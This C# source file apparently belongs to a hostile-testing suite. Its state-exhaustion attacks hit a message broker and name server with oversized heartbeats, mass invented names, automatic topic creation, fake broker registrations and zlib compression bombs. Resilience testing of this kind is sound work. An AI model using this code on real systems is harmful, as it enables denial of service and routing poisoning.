using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Ariane.Hostile.Fuzzing;
using Ariane.Hostile.Wire;

namespace Ariane.Hostile.Attacks;

/// <summary>Makes servers remember things.</summary>
internal static class StateAttacks
{
    private const int NamesOfOneBatch = 100;

    /// <summary>20 connections whose heartbeats subscribe to 10,000 topics each.</summary>
    public static async Task HeartbeatsAsync(AttackTarget target, CancellationToken cancellationToken)
    {
        await FrameAttacks.RepeatAsync(target, target.Count(20), target.Broker, async (client, number, round) =>
        {
            string topics = string.Join(',', Enumerable.Range(0, 10_000).Select(i =>
                $$"""{"topic":"sub-{{i}}","subString":"*","tagsSet":[],"codeSet":[],"subVersion":{{round}}}"""));
            string body = $$"""
                {"clientID":"hostile-{{number}}","consumerDataSet":[{"groupName":"hostile-wide-{{number}}","subscriptionDataSet":[{{topics}}]}]}
                """;
            WireAnswer? answer = await client.CallAsync(Requests.Of(34, body), round, cancellationToken);
            target.Report.Add(answer?.Code == 0 ? "heartbeats accepted" : "refused");
            return answer is not null;
        }, cancellationToken);
    }

    /// <summary>100,000 invented names in each request that has no business to remember any.</summary>
    public static async Task InventedNamesAsync(AttackTarget target, CancellationToken cancellationToken)
    {
        int names = 0;
        await FrameAttacks.RepeatAsync(target, 4, target.Broker, async (client, number, round) =>
        {
            if (Volatile.Read(ref names) >= target.Count(100_000)) return await WaitAsync(cancellationToken);
            int first = Interlocked.Add(ref names, NamesOfOneBatch);
            if (await target.ConnectAsync(target.NameServer, cancellationToken) is not { } asker) return false;
            bool isTaken = await SendAllAsync(client, BrokerRequests(first), cancellationToken)
                && await SendAllAsync(asker, NameServerRequests(first), cancellationToken);
            await asker.DisposeAsync();
            if (isTaken) target.Report.Add("names, each in 17 requests", NamesOfOneBatch);
            return isTaken;
        }, cancellationToken);
    }

    /// <summary>
    /// Messages of 256 KiB, each to a topic of its own: what automatic creation allows, up to its limits.
    /// </summary>
    public static async Task NewTopicsAsync(AttackTarget target, CancellationToken cancellationToken)
    {
        int topics = 0;
        byte[] body = new byte[256 * 1024];
        await FrameAttacks.RepeatAsync(target, target.Count(16), target.Broker, async (client, number, round) =>
        {
            if (Volatile.Read(ref topics) >= target.Count(2000)) return await WaitAsync(cancellationToken);
            int first = Interlocked.Add(ref topics, 20);
            byte[] sends = Requests.Together(20, i => Requests.Send($"hostile-new-{first + i}", 0, body));
            if (!await client.TrySendAsync(sends, cancellationToken)) return false;
            for (int i = 0; i < 20; i++)
            {
                if (await client.ReceiveAsync(cancellationToken) is not { } answer) return false;
                target.Report.Add(answer.Code == 0 ? "topics" : "told to wait");
            }

            return true;
        }, cancellationToken);
    }

    /// <summary>Brokers that do not exist, each with 1,000 topics.</summary>
    public static async Task FakeBrokersAsync(AttackTarget target, CancellationToken cancellationToken)
    {
        int brokers = 0;
        await FrameAttacks.RepeatAsync(target, 4, target.NameServer, async (client, _, round) =>
        {
            int broker = Interlocked.Increment(ref brokers);
            if (broker > target.Count(2000)) return await WaitAsync(cancellationToken);
            string topics = string.Join(',', Enumerable.Range(0, 1000).Select(i =>
                $$"""
                "fake-{{broker}}-{{i}}":{"topicName":"fake-{{broker}}-{{i}}","readQueueNums":4,"writeQueueNums":4,"perm":6}
                """));
            byte[] body = Encoding.UTF8.GetBytes($$"""
                {"topicConfigSerializeWrapper":{"dataVersion":{"counter":1,"stateVersion":0,"timestamp":1},"topicConfigTable":{ {{topics}} } },"filterServerList":[]}
                """);
            WireAnswer? answer = await client.CallAsync(
                Requests.Register($"fake-{broker}", $"10.0.0.1:{broker}", body), round, cancellationToken);
            target.Report.Add(answer?.Code == 0 ? "brokers accepted" : "refused");
            return answer is not null;
        }, cancellationToken);
    }

    /// <summary>
    /// Registrations that inflate to 32 MiB and 128 MiB of nothing, and to a million well-formed topics.
    /// </summary>
    public static async Task BombsAsync(AttackTarget target, CancellationToken cancellationToken)
    {
        byte[][] bombs =
            [Mutator.Bomb(32 * 1024 * 1024), Mutator.Bomb(128 * 1024 * 1024), TopicBomb(target.Count(1_000_000))];
        await FrameAttacks.RepeatAsync(target, target.Count(8), target.NameServer, async (client, number, round) =>
        {
            HostileRequest bomb = Requests.Register(
                "bomb", $"10.0.0.2:{number}", bombs[round % bombs.Length], isCompressed: true);
            WireAnswer? answer = await client.CallAsync(bomb, round, cancellationToken);
            target.Report.Add("bombs");
            return answer is not null;
        }, cancellationToken);
    }

    // The form is drawn in src/Ariane.Protocol/Bodies/CompressedRegistration.cs.
    private static byte[] TopicBomb(int topics)
    {
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Fastest))
        {
            Section("""{"counter":1,"stateVersion":0,"timestamp":1}""");
            Number(topics);
            for (int i = 0; i < topics; i++) Section($"bomb-{i} 1 1 6 S");
            Section("[]");
            Number(0);

            void Section(string text)
            {
                byte[] bytes = Encoding.UTF8.GetBytes(text);
                Number(bytes.Length);
                zlib.Write(bytes);
            }

            void Number(int number)
            {
                Span<byte> bytes = stackalloc byte[sizeof(int)];
                BinaryPrimitives.WriteInt32BigEndian(bytes, number);
                zlib.Write(bytes);
            }
        }

        return compressed.ToArray();
    }

    private static async Task<bool> WaitAsync(CancellationToken cancellationToken)
    {
        await ConnectionAttacks.UntilCancelledAsync(cancellationToken);
        return true;
    }

    private static async Task<bool> SendAllAsync(
        WireClient client, List<HostileRequest> requests, CancellationToken cancellationToken)
    {
        if (!await client.TrySendAsync(Requests.Together(requests.Count, i => requests[i]), cancellationToken))
            return false;
        for (int i = 0; i < requests.Count; i++)
        {
            if (await client.ReceiveAsync(cancellationToken) is null) return false;
        }

        return true;
    }

    private static List<HostileRequest> BrokerRequests(int first) =>
    [
        .. Enumerable.Range(first, NamesOfOneBatch).SelectMany(static i => new[]
        {
            Requests.MaxOffset($"invented-{i}"),
            Requests.Of(31, [new("topic", $"invented-{i}"), new("queueId", $"{i}")]),
            Requests.Of(
                14, [new("consumerGroup", $"invented-{i}"), new("topic", $"invented-{i}"), new("queueId", "0")]),
            Requests.Of(15,
            [
                new("consumerGroup", $"invented-{i}"), new("topic", $"invented-{i}"), new("queueId", "0"),
                new("commitOffset", "1"),
            ]),
            Requests.Of(38, [new("consumerGroup", $"invented-{i}")]),
            Requests.Of(351, [new("topic", $"invented-{i}")]),
            Requests.Of(208, [new("consumerGroup", $"invented-{i}")]),
            Requests.Of(35,
            [
                new("clientID", $"invented-{i}"), new("consumerGroup", $"invented-{i}"),
                new("producerGroup", $"invented-{i}"),
            ]),
            Requests.Of(41, $$"""{"consumerGroup":"invented-{{i}}","clientId":"c","mqSet":[{"topic":"invented-{{i}}","brokerName":"b","queueId":0}]}"""),
            Requests.Of(215, [new("topic", $"invented-{i}")]),
            Requests.Of(12,
            [
                new("topic", $"invented-{i}"), new("key", $"{i}"), new("maxNum", "32"), new("beginTimestamp", "0"),
                new("endTimestamp", "9999999999999"),
            ]),
            Requests.Pull($"invented-{i}", 0, 0, "hostile-inventor"),
        }),
    ];

    private static List<HostileRequest> NameServerRequests(int first) =>
    [
        .. Enumerable.Range(first, NamesOfOneBatch).SelectMany(static i => new[]
        {
            Requests.Of(105, [new("topic", $"invented-{i}")]),
            Requests.Of(101, [new("namespace", $"invented-{i}"), new("key", "k")]),
            Requests.Of(219, [new("namespace", $"invented-{i}")]),
            Requests.Of(904,
            [
                new("brokerAddr", $"10.1.1.1:{i}"), new("clusterName", $"invented-{i}"),
                new("brokerName", $"invented-{i}"),
            ]),
            Requests.Of(216, [new("topic", $"invented-{i}")]),
        }),
    ];
}
